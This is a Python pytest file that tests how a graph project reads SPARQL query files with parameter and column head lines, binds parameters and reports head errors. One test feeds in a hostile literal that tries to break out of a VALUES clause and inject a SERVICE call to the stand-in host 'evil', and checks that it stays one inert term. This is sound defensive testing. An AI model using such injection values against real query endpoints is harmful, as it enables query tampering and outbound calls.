from __future__ import annotations

import pyoxigraph as ox
import pytest

from ccn_graph.errors import QuestionError
from ccn_graph.rdf import query_file
from tests.conftest import ROOT, Write, some

TEXT = """\
#+ param: city city 都市 / city
#+ column: n number 数 / number
PREFIX city: <https://w3id.org/ccn/city/>
SELECT ?n WHERE {
  VALUES ?city { city:kobe }
  VALUES ?other { city:nara }
  ?city ?n ?other
}
"""
KEYS = {"param", "column"}


def test_head_parameters_and_columns_are_read(write: Write) -> None:
    file = query_file.read(write("q.rq", TEXT), KEYS)
    (parameter,), (column,) = file.parameters, file.columns
    assert (parameter.name, parameter.kind, parameter.default) == ("city", "city", "city:kobe")
    assert column.heading == {"ja": "数", "en": "number"}


def test_binding_replaces_one_row_by_one_term_and_nothing_else(write: Write) -> None:
    file = query_file.read(write("q.rq", TEXT), KEYS)
    hostile = ox.Literal('x" } SERVICE <http://evil/> { ?s ?p "')
    bound = file.bind({"city": hostile})
    assert bound == TEXT.replace("city:kobe", str(hostile))
    ox.Store().query(bound)
    assert file.bind({}) == TEXT


@pytest.mark.parametrize(
    ("change", "line", "part"),
    [
        (("#+ param:", "#+ parm:"), 1, "unknown head key 'parm'"),
        (("#+ column: n", "#+ column n"), 2, "a head line reads"),
        (("数 / number", "数"), 2, "instead of"),
        (("VALUES ?city", "VALUES ?town"), 1, "VALUES ?city"),
    ],
)
def test_a_wrong_head_has_its_line(write: Write, change: tuple[str, str], line: int, part: str) -> None:
    path = write("q.rq", TEXT.replace(*change))
    with pytest.raises(QuestionError, match=f"q.rq:{line}: ") as caught:
        file = query_file.read(path, KEYS)
        _ = file.parameters, file.columns
    assert part in str(caught.value)


def test_every_query_of_the_program_can_be_read_and_is_asked_in_its_room() -> None:
    for path in some(sorted((ROOT / "ccn_graph").glob("*/queries/*.rq"))):
        room = path.parents[1]
        ox.Store().query(query_file.own(room.name, path.stem))
        code = "".join(module.read_text(encoding="utf-8") for module in room.rglob("*.py"))
        assert f'query_file.own("{room.name}", "{path.stem}")' in code, path
